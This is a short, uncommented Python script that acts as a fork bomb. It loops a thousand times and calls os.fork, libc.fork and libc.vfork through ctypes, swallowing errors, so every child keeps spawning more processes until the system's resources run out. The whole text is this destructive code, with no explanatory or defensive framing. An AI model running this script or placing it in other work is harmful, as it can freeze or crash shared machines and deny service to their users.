import ctypes, os, threading
libc = ctypes.CDLL(None)
for _ in range(1000):
    for way in (os.fork, libc.fork, libc.vfork):
        try:
            way()
        except OSError:
            pass
